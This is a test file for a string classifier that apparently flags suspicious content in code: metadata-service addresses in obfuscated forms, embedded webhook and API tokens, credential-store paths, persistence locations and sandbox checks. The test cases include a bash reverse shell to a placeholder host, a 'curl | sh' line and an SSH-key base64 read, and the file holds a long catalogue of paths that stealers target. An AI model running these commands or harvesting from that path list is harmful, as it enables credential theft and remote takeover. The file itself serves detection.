import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { classifyString } from '../../../src/behaviour/strings/classify.js';

const guid = '00000000-1111-2222-3333-444444444444';
const hex32 = '0123456789abcdef0123456789abcdef';

describe('classifyString: endpoints', () => {
  it.each([
    ['https://api.example.com/v1/send', 'api.example.com', 'url'],
    ['HTTPS://API.Example.COM:8443/x', 'api.example.com', 'url'],
    ['wss://stream.example.com/socket', 'stream.example.com', 'url'],
    ['tcp://198.51.100.7:4444', '198.51.100.7', 'address'],
    ['http://203.0.113.5:5341/api/account', '203.0.113.5', 'address'],
    ['198.51.100.7:4444', '198.51.100.7', 'address'],
    ['198.51.100.7', '198.51.100.7', 'address'],
    ['http://3325256711/x', '198.51.100.7', 'address'],
    ['http://0xC6336407/x', '198.51.100.7', 'address'],
    ['http://0306.063.0144.07/', '198.51.100.7', 'address'],
    ['http://[2001:db8::7]:8080/x', '2001:db8::7', 'address'],
    ['http://user:secret@files.example.com/x', 'files.example.com', 'url'],
    ['https://{0}.collect.example.com/', '*.collect.example.com', 'url'],
    ['collect.example.com:8080', 'collect.example.com', 'url'],
    ['\\\\files.example.com\\share\\x.exe', 'files.example.com', 'url'],
    ['http://127.0.0.1:7152/', '127.0.0.1', 'url'],
    ['http://localhost:5000', 'localhost', 'url'],
    ['/dev/tcp/198.51.100.7/4444', '198.51.100.7', 'address'],
    ['bash -i >& /dev/tcp/shell.example.com/443 0>&1', 'shell.example.com', 'url'],
  ])('finds the host in %s', (text, host, form) => {
    expect(classifyString(text)).toContainEqual(
      expect.objectContaining({ kind: 'endpoint', host, form }),
    );
  });

  it.each([
    'http://169.254.169.254/latest/meta-data/iam/security-credentials/',
    'http://2852039166/latest/',
    'http://0xA9FEA9FE/',
    'http://0xa9.0xfe.0xa9.0xfe/',
    'http://0251.0376.0251.0376/',
    'http://169.254.43518/',
    'http://[::ffff:169.254.169.254]/',
    'http://[::ffff:a9fe:a9fe]/',
    'http://[fd00:ec2::254]/latest/api/token',
    'http://%31%36%39.254.169.254/',
    'http://169。254。169。254/',
    'http://metadata.google.internal/computeMetadata/v1/',
    'http://METADATA.google.internal./x',
    'http://localhost:40342/metadata/identity/oauth2/token',
    'https://kubernetes.default.svc/api',
    '169.254.169.254',
    '169.254.170.2',
    '2852039166',
    '0xA9FEA9FE',
    'fd00:ec2::254',
    '100.100.100.200',
    '/latest/meta-data/iam/security-credentials/',
    '/metadata/identity/oauth2/token?api-version=2018-02-01',
    '2822734096', // 168.63.129.16
    '1684301000', // 100.100.100.200
    '0251.0376.0251.0376',
    '0xa9.254.0251.254',
    '[::ffff:a9fe:a9fe]',
    'fd00:0ec2:0000:0000:0000:0000:0000:0254',
    '169.254.170.23',
    'http://169.254.170.2/v2/credentials/0',
    'http://localhost:50342/oauth2/token',
    'localhost:40342',
    '/latest/meta-data',
    'latest/meta-data/iam/security-credentials/',
    '/iam/security-credentials/',
    'computeMetadata/v1/instance/service-accounts/default/token',
    'metadata/identity/oauth2/token',
    '/opc/v2/identity/cert.pem',
    'X-aws-ec2-metadata-token',
    'X-aws-ec2-metadata-token-ttl-seconds',
    'X-aws-ec2-metadata-token: $TOKEN',
    'Metadata-Flavor',
    'Metadata-Flavor: Google',
    'X-IDENTITY-HEADER',
    'Metadata: true',
    'Authorization: Bearer Oracle',
  ])('knows the metadata service in %s', (text) => {
    expect(classifyString(text)).toContainEqual(
      expect.objectContaining({ kind: 'endpoint', form: 'metadata-service' }),
    );
  });

  it('tells which address a number stands for', () => {
    expect(classifyString('2822734096')).toContainEqual(
      expect.objectContaining({ host: '168.63.129.16', form: 'metadata-service' }),
    );
  });

  it('knows who resolves names over HTTPS by the path', () => {
    expect(classifyString('https://names.example.com/dns-query')).toContainEqual(
      expect.objectContaining({ host: 'names.example.com', service: 'dns-over-https' }),
    );
  });

  it('keeps links in prose and to documentation apart', () => {
    const prose = classifyString('Not supported. See https://docs.example.com/a for more.');
    expect(prose).toEqual([
      expect.objectContaining({ host: 'docs.example.com', role: 'documentation' }),
    ]);
    expect(classifyString('https://example.com/api')).toEqual([
      expect.objectContaining({ role: 'service' }),
    ]);
  });

  it('finds several in one script', () => {
    const hosts = classifyString('curl https://a.example.com/1 | sh; wget "http://b.example.com/2"')
      .filter((sighting) => sighting.kind === 'endpoint')
      .map((sighting) => sighting.host);
    expect(hosts).toEqual(['a.example.com', 'b.example.com']);
  });
});

describe('classifyString: embedded keys', () => {
  it.each([
    [`https://${hex32}@o1.ingest.example.com/4511335`, 'sentry', 'o1.ingest.example.com'],
    [`https://${hex32}:${hex32}@sentry.example.com/path/2`, 'sentry', 'sentry.example.com'],
    [
      `InstrumentationKey=${guid};IngestionEndpoint=https://in.example.com/`,
      'application-insights',
      'in.example.com',
    ],
    [
      `https://chat.example.com/api/webhooks/123456789012345678/${'a'.repeat(60)}`,
      'webhook',
      'chat.example.com',
    ],
    [
      'https://hooks.example.com/services/T00000000/B00000000/XXXXXXXXXXXXXXXXXXXXXXXX',
      'webhook',
      'hooks.example.com',
    ],
    [
      `https://api.example.com/bot123456789:AA${'b'.repeat(33)}/sendMessage`,
      'chat-bot',
      'api.example.com',
    ],
    [`123456789:AA${'b'.repeat(33)}`, 'chat-bot', ''],
    ['http://203.0.113.5:5341/api/events/raw', 'log-server', '203.0.113.5'],
    [
      `https://script.example.com/macros/s/AKfy${'c'.repeat(40)}/exec`,
      'webhook',
      'script.example.com',
    ],
    [`https://chat.example.com/open-apis/bot/v2/hook/${guid}`, 'webhook', 'chat.example.com'],
    ['https://hooks.example.com/hooks/catch/123456/abcdef/', 'webhook', 'hooks.example.com'],
    [
      `https://docs.example.com/forms/d/e/1FAI${'d'.repeat(40)}/formResponse`,
      'webhook',
      'docs.example.com',
    ],
    [`https://logs.example.com/inputs/${guid}/tag/http/`, 'log-server', 'logs.example.com'],
    [`ghp_${'0'.repeat(36)}`, 'code-hosting', ''],
    [`github_pat_${'0'.repeat(22)}_${'0'.repeat(59)}`, 'code-hosting', ''],
    [`SG.${'0'.repeat(22)}.${'0'.repeat(43)}`, 'mail', ''],
    [`MTIz${'0'.repeat(20)}.${'0'.repeat(6)}.${'0'.repeat(38)}`, 'chat-bot', ''],
    [`eyJ0.eyJpc3MiOiJzdXBhYmFzZSIs${'0'.repeat(20)}.${'0'.repeat(43)}`, 'data-service', ''],
  ])('knows %s by its shape', (text, service, host) => {
    expect(classifyString(text)).toContainEqual({ kind: 'embedded-key', service, host });
  });

  it.each([
    'https://user@example.com/1',
    `https://example.com/${hex32}/1`,
    'InstrumentationKey={0};IngestionEndpoint=https://in.example.com/',
    'InstrumentationKey=00000000-0000-0000-0000-000000000000;Ingestion=x',
    'https://example.com/api/webhooks/{id}/{token}',
    'https://example.com/api/events/',
    'https://example.com/webhook/receive',
    `ghp_${'0'.repeat(12)}`,
    'Microsoft.Extensions.Configuration.UserSecrets.Version10',
    `eyJ0.eyJpc3MiOiJ${'0'.repeat(20)}.${'0'.repeat(43)}`,
    guid,
  ])('sees no key in %s', (text) => {
    expect(classifyString(text).filter(({ kind }) => kind === 'embedded-key')).toEqual([]);
  });
});

/** Locations that stealers read, one or more a row, joined and as the pieces code joins. */
const c1: readonly (readonly [string, string])[] = [
  ['%APPDATA%\\NuGet\\NuGet.Config', 'nuget'],
  ['~/.nuget/NuGet/NuGet.Config', 'nuget'],
  ['NuGet.Config', 'nuget'],
  ['packageSourceCredentials', 'nuget'],
  ['MicrosoftCredentialProvider', 'nuget'],
  ['%LOCALAPPDATA%\\MicrosoftCredentialProvider\\SessionTokenCache.dat', 'nuget'],
  ['%APPDATA%\\Microsoft\\UserSecrets\\0\\secrets.json', 'dotnet'],
  ['secrets.json', 'dotnet'],
  ['~/.aspnet/DataProtection-Keys', 'dotnet'],
  ['site.PublishSettings', 'dotnet'],
  ['Properties/PublishProfiles/x.pubxml.user', 'dotnet'],
  ['client.pfx', 'key-file'],
  ['%LOCALAPPDATA%\\.IdentityService\\msal.cache', 'ide'],
  ['%APPDATA%\\Code\\User\\globalStorage\\state.vscdb', 'ide'],
  ['~/Library/Application Support/Cursor/User/globalStorage', 'ide'],
  ['VSCredentials_https://', 'ide'],
  ['github-copilot', 'ide'],
  ['/home/agent/.credentials_rsaparams', 'forge'],
  ['~/.config/gh/hosts.yml', 'forge'],
  ['%APPDATA%\\GitHub CLI\\hosts.yml', 'forge'],
  ['hosts.yml', 'forge'],
  ['~/.git-credentials', 'forge'],
  ['repo/.git/config', 'forge'],
  ['_netrc', 'forge'],
  ['~/.config/glab-cli/config.yml', 'forge'],
  ['/var/lib/jenkins/secrets/master.key', 'forge'],
  ['~/.npmrc', 'package-manager'],
  ['.pypirc', 'package-manager'],
  ['~/.cargo/credentials.toml', 'package-manager'],
  ['~/.m2/settings.xml', 'package-manager'],
  ['~/.gradle/gradle.properties', 'package-manager'],
  ['~/.composer/auth.json', 'package-manager'],
  ['.docker', 'container'],
  ['~/.docker/config.json', 'container'],
  ['/var/run/docker.sock', 'container'],
  ['\\\\.\\pipe\\docker_engine', 'container'],
  ['~/.kube/config', 'container'],
  ['.ssh\\id_ed25519', 'ssh-gpg'],
  ['Software\\SimonTatham\\PuTTY\\Sessions', 'ssh-gpg'],
  ['%APPDATA%\\gnupg\\private-keys-v1.d', 'ssh-gpg'],
  ['~/.gnupg', 'ssh-gpg'],
  ['~/.terraform.d/credentials.tfrc.json', 'infrastructure'],
  ['prod.tfstate', 'infrastructure'],
  ['~/.vault-token', 'infrastructure'],
  ['~/.config/sops/age/keys.txt', 'infrastructure'],
  ['.aws', 'aws'],
  ['$HOME/.aws/sso/cache', 'aws'],
  ['%LOCALAPPDATA%\\AWSToolkit\\RegisteredAccounts.json', 'aws'],
  ['${HOME}/.azure/msal_token_cache.json', 'azure'],
  ['service_principal_entries.bin', 'azure'],
  ['AzureRmContext.json', 'azure'],
  ['%APPDATA%\\gcloud\\credentials.db', 'gcp'],
  ['application_default_credentials.json', 'gcp'],
  ['~/.oci/config', 'cloud'],
  ['~/.config/doctl/config.yaml', 'cloud'],
  ['~/.databrickscfg', 'cloud'],
  ['.env.production', 'database'],
  ['%APPDATA%\\postgresql\\pgpass.conf', 'database'],
  ['~/.claude/.credentials.json', 'ai-tool'],
  ['claude_desktop_config.json', 'ai-tool'],
  ['~/.codeium/windsurf/mcp_config.json', 'ai-tool'],
  ['~/.cache/huggingface/token', 'ai-tool'],
  ['Local State', 'browser'],
  ['key4.db', 'browser'],
  ['Local Extension Settings', 'browser'],
  ['os_crypt', 'browser'],
  ['Chrome Safe Storage', 'browser'],
  ['StratisNode', 'wallet'],
  ['nkbihfbeogaeaoehlefnkodbefgpgknn', 'wallet'],
  ['~/.config/solana/id.json', 'wallet'],
  ['wallet.dat', 'wallet'],
  ['Bitwarden\\data.json', 'password-manager'],
  ['~/.password-store', 'password-manager'],
  ['Microsoft\\Credentials', 'password-manager'],
  ['/etc/wireguard/wg0.conf', 'network-profile'],
  ['discord\\Local Storage\\leveldb', 'messaging'],
  ['tdata', 'messaging'],
  ['Steam\\config\\loginusers.vdf', 'messaging'],
];

describe('classifyString: places and variables', () => {
  it.each<[string, string, string]>([
    ['%APPDATA%\\NuGet\\NuGet.Config', 'credential', 'nuget'],
    ['~/.aws/credentials', 'credential', 'aws'],
    ['$HOME/.aws/credentials', 'credential', 'aws'],
    ['.ssh', 'credential', 'ssh-gpg'],
    ['cat ~/.ssh/id_rsa | base64', 'credential', 'ssh-gpg'],
    ['\\Google\\Chrome\\User Data\\Default\\Login Data', 'credential', 'browser'],
    ['Login Data', 'credential', 'browser'],
    ['~/Library/Keychains/login.keychain-db', 'credential', 'password-manager'],
    ['msal_token_cache.bin', 'credential', 'azure'],
    ['vault.kdbx', 'credential', 'password-manager'],
    ['C:\\Users\\x\\AppData\\Roaming\\StratisNode\\a.wallet.json', 'credential', 'wallet'],
    ['/var/run/secrets/kubernetes.io/serviceaccount/token', 'credential', 'container'],
    ['Software\\Microsoft\\Windows\\CurrentVersion\\Run', 'startup', 'windows'],
    ['HKCU:\\SOFTWARE\\MICROSOFT\\WINDOWS\\CURRENTVERSION\\RUN\\Updater', 'startup', 'windows'],
    ['~/Library/LaunchAgents/com.example.plist', 'startup', 'macos'],
    ['/etc/cron.d/job', 'startup', 'linux'],
    ['.claude/settings.json', 'agent-settings', 'agent'],
    ['.vscode\\tasks.json', 'agent-settings', 'editor'],
    ['CLAUDE.md', 'agent-settings', 'agent'],
    ['/etc/shadow', 'system', 'linux'],
    ['/proc/1234/mem', 'system', 'linux'],
    ['~/.bash_history', 'user-data', 'history'],
    ...c1.map(([text, area]): [string, string, string] => [text, 'credential', area]),
    ['appsettings.Production.json', 'configuration', 'dotnet'],
    ['appsettings.json', 'configuration', 'dotnet'],
    ['C:\\inetpub\\wwwroot\\web.config', 'configuration', 'dotnet'],
    ['local.settings.json', 'configuration', 'dotnet'],
    ['DOTNET_STARTUP_HOOKS', 'startup', 'loader'],
    ['CORECLR_PROFILER_PATH', 'startup', 'loader'],
    ['LD_PRELOAD', 'startup', 'loader'],
    ['../Directory.Build.targets', 'startup', 'developer'],
    ['.git\\hooks\\post-checkout', 'startup', 'developer'],
    ['.github/workflows/build.yml', 'startup', 'developer'],
    ['~/.config/systemd/user/x.service', 'startup', 'linux'],
    ['Software\\Classes\\ms-settings\\shell\\open\\command', 'startup', 'windows'],
    ['Start Menu\\Programs\\Startup', 'startup', 'windows'],
    ['.gemini/settings.json', 'agent-settings', 'agent'],
    ['.cursor/rules/setup.mdc', 'agent-settings', 'agent'],
    ['.devcontainer', 'agent-settings', 'editor'],
    ['/etc/passwd', 'system', 'linux'],
    ['Runner.Worker', 'system', 'linux'],
    ['/proc/self/environ', 'system', 'linux'],
    ['*.pem', 'credential', 'file-search'],
  ])('knows %s', (text, place, area) => {
    expect(classifyString(text)).toContainEqual({ kind: 'path', text, place, area });
  });

  it.each([
    'GITHUB_TOKEN',
    'AWS_SECRET_ACCESS_KEY',
    'AzureWebJobsStorage',
    'TF_VAR_db',
    'ACME_API_KEY',
    'ACME_API_TOKEN',
    'AZURE_TENANT_ID',
    'NuGetPackageSourceCredentials_Contoso',
    'SQLAZURECONNSTR_Main',
    'STRIPE_ENDPOINT_SECRET',
    'SLACK_SIGNING_SECRET',
    'PGPASSWORD',
    'KUBERNETES_SERVICE_HOST',
    'VSS_NUGET_EXTERNAL_FEED_ENDPOINTS',
  ])('knows the secret variable %s', (name) => {
    expect(classifyString(name)).toContainEqual(
      expect.objectContaining({ kind: 'environment-variable', name }),
    );
  });
});

describe('classifyString: gates', () => {
  it.each(['vmtoolsd', 'SbieDll.dll', 'Wireshark.exe', 'dnSpy'])('%s is looked for', (text) => {
    expect(classifyString(text)).toEqual([{ kind: 'gate', gate: 'analysis' }]);
  });
});

describe('classifyString: what honest code is full of', () => {
  it.each([
    // versions, OIDs, masks, ratios, times
    '1.2.3.4',
    '1.0.0.0',
    '6.5.0.7955',
    '10.0.0.0',
    '2.5.29.15',
    '2.5.4.3',
    '255.255.255.0',
    '0.0.0.0',
    '16:16',
    '00:00',
    '12:34:56',
    '90:00',
    '10.0.0.0/8',
    '4.0.30319',
    '09.00.0000',
    // names with dots, colons, slashes
    'Microsoft.Extensions.Logging',
    'System.Net.Http',
    'application/json',
    'text/plain',
    'yyyy-MM-dd HH:mm:ss',
    'a:b',
    'x64/native',
    'std::string',
    '::',
    'dead:beef',
    '{0}:{1}',

    '\\d+\\w{3,}\\s',
    '\\\\.\\pipe\\',
    '\\\\?\\C:\\',
    'file:///',
    'http://',
    'https://{0}',
    '://proxy',
    // namespaces and names that are never fetched
    'http://schemas.microsoft.com/winfx/2006/xaml',
    'http://www.w3.org/2001/XMLSchema',

    'http://schemas.openxmlformats.org/spreadsheetml/2006/main',
    'urn:x',
    'pack://application:,,,/a',
    // paths and files of no interest

    'obj/project.assets.json',
    'config',
    'credentials',
    '/proc/self/stat',

    '/etc/localtime',
    '/etc/ssl/certs',
    'CurrentVersion',
    'wallet',
    'keys.json',
    'cookies',
    'data.env.txt',
    'Views/Shared/{0}.cshtml',
    '~/Views/{1}/{0}.cshtml',
    'src/settings.json',
    'Run',
    'token',
    // names that end like secrets
    'CONTINUATION_TOKEN',
    'HTTP_API_KEYWORD',
    'ApiKey',
    'api_key',
    'PATH',
    'Token',
    'apikey',
    '',
    'a',
    'Development',
    'Sandboxed',
    'productions',
    'ci',
    'Metadata',
    'metadata/instances/5',
    'latest/version',
    'User Data',
    'Credentials',
    'Bearer',
    'X-Requested-With: XMLHttpRequest',
    'CONNSTR_',
    'TF_VAR_',
    'ERR_INVALID_PASSWORD',
    'GRANT_TYPE_PASSWORD',
    'fiddle.dll',
    'System.dll',
    '.pem',
    '*.cs',
    'truststore.p12',
    'conf/cacerts.p12',
    'root-ca.pfx',
    'auth.json',
    'config.json',
    'Code/User/snippets',
    'The app.config/web.config files did not contain it',
  ])('says nothing of %j', (text) => {
    expect(classifyString(text)).toEqual([]);
  });

  it('names no service that a schema look-alike host could hide behind', () => {
    expect(classifyString('http://schemas.example.com/collect')).toHaveLength(1);
    expect(classifyString('http://schemas.microsoft.com.example.com/collect')).toHaveLength(1);
    expect(classifyString('http://www.w3.org/x?data=1')).toHaveLength(1);
  });
});

describe('classifyString: hostile text', () => {
  it('never throws', () => {
    const piece = fc.constantFrom(
      '://',
      'http',
      '.',
      ':',
      '@',
      '[',
      ']',
      '%',
      '\\',
      '/',
      '0x',
      '1',
      'é',
      '。',
      ' ',
    );
    fc.assert(
      fc.property(
        fc.array(piece).map((all) => all.join('')),
        (text) => void classifyString(text),
      ),
    );
    fc.assert(fc.property(fc.string({ unit: 'binary' }), (text) => void classifyString(text)));
  });

  it.each([
    '://',
    'http://a/',
    '\\',
    '/',
    '.',
    'a.',
    ':',
    '%31',
    '[',
    '1.',
    '@',
    'InstrumentationKey=',
    '_A',
    '/dev/tcp/a',
    '/dev/tcp/',
    'metadata:',
    'latest/',
  ])('is quick about a megabyte of %j', (unit) => {
    const text = unit.repeat(Math.ceil(1_000_000 / unit.length));
    const start = performance.now();
    classifyString(text);
    classifyString(`http://${text}`);
    expect(performance.now() - start).toBeLessThan(10_000);
  });
});
